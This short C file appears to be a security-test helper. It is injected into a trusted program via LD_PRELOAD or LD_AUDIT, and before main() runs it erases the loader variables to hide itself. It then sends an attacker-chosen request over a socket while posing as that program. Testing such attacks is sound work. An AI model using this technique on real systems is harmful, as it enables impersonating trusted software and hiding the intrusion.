/*
 * Code of the attacker's in the trusted program, by LD_PRELOAD or LD_AUDIT: asks before main() begins, and leaves no trace of the
 * variable.
 * What it asks and where is in ATTACK_SOCKET and ATTACK_REQUEST.
 */
#include "caller.h"

/* What the dynamic loader asks of an auditor. */
unsigned la_version(unsigned version) { return version; }

__attribute__((constructor)) static void ask(void) {
  unsetenv("LD_PRELOAD");
  unsetenv("LD_AUDIT");
  int fd = connect_to(getenv("ATTACK_SOCKET"), SOCK_CLOEXEC);
  say(fd, getenv("ATTACK_REQUEST"));
  report(hear(fd));
  _exit(0);
}
